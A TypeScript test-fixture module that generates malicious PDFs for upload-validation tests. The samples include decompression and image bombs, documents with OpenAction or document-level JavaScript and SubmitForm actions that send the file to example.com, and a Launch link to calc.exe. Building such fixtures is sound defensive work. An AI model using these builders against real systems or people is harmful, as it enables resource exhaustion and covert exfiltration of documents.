// PDFs an attacker would upload, made here so the tests and the bench need no binary fixtures:
// bombs (small files that cost gigabytes or seconds), too many pages, and active content.
import { createDeflate } from 'node:zlib';
import { PDFDocument, PDFName, PDFRawStream, PDFString } from 'pdf-lib';

/** zlib-deflated `size` bytes of `fill`, made in 1 MB steps so the input is never held whole. */
async function deflatedFill(size: number, fill: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const block = Buffer.alloc(1024 * 1024, fill);
  for (let written = 0; written < size; written += block.length) {
    const part = written + block.length > size ? block.subarray(0, size - written) : block;
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat(chunks);
}

/**
 * A one-page PDF whose page content is a FlateDecode stream inflating to `inflatedBytes` of
 * spaces: about a thousandth of that on disk (1 GB in 1 MB).
 */
export async function decompressionBomb(inflatedBytes: number): Promise<Uint8Array> {
  const content = await deflatedFill(inflatedBytes, 0x20);
  const pdf = await PDFDocument.create();
  const page = pdf.addPage();
  const stream = PDFRawStream.of(pdf.context.obj({ Filter: 'FlateDecode', Length: content.length }), content);
  page.node.set(PDFName.of('Contents'), pdf.context.register(stream));
  return pdf.save();
}

/** A one-page PDF showing a grey image of `width` x `height` pixels, all black: tiny compressed. */
export async function imageBomb(width: number, height: number): Promise<Uint8Array> {
  const pixels = await deflatedFill(width * height, 0);
  const pdf = await PDFDocument.create();
  const page = pdf.addPage();
  const image = PDFRawStream.of(
    pdf.context.obj({
      Type: 'XObject',
      Subtype: 'Image',
      Width: width,
      Height: height,
      BitsPerComponent: 8,
      ColorSpace: 'DeviceGray',
      Filter: 'FlateDecode',
      Length: pixels.length,
    }),
    pixels,
  );
  page.node.setXObject(PDFName.of('Im0'), pdf.context.register(image));
  const content = pdf.context.flateStream('q 500 0 0 700 50 50 cm /Im0 Do Q');
  page.node.set(PDFName.of('Contents'), pdf.context.register(content));
  return pdf.save();
}

/** A PDF of `pages` empty A4 pages (1,000 pages take about 40 KB). */
export async function manyPages(pages: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  for (let page = 0; page < pages; page++) pdf.addPage([595.28, 841.89]);
  return pdf.save();
}

/**
 * `ticket` with JavaScript run on opening (the catalog's /OpenAction). pdf-lib writes the catalog
 * into a compressed object stream, as many real PDFs do.
 */
export async function withOpenActionJavaScript(ticket: Uint8Array): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(ticket);
  const action = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("Lipputori")') });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  return pdf.save();
}

/**
 * `ticket` with document-level JavaScript (the /JavaScript name tree, run when the file opens) that
 * sends the file's form to an address outside.
 */
export async function withDocumentJavaScript(ticket: Uint8Array): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(ticket);
  pdf.addJavaScript('laheta', 'this.submitForm({ cURL: "https://example.com/kerays", cSubmitAs: "PDF" });');
  return pdf.save();
}

/** `ticket` that sends itself to an address outside when it is opened: a /SubmitForm /OpenAction, no script. */
export async function withOpenActionSubmitForm(ticket: Uint8Array): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(ticket);
  const action = pdf.context.obj({
    S: 'SubmitForm',
    F: { FS: 'URL', F: PDFString.of('https://example.com/kerays') },
    Flags: 256, // SubmitPDF: the whole file
  });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  return pdf.save();
}

/** `ticket` with a link over its first page that starts a program (a /Launch action). */
export async function withLaunchLink(ticket: Uint8Array): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(ticket);
  const link = pdf.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 200, 200],
    A: { S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') },
  });
  pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(link)]));
  return pdf.save();
}

/** `ticket` with a file inside it (the document's /EmbeddedFiles name tree). */
export async function withEmbeddedFile(ticket: Uint8Array): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(ticket);
  await pdf.attach(new TextEncoder().encode('not a ticket'), 'ohje.txt', { mimeType: 'text/plain' });
  return pdf.save();
}
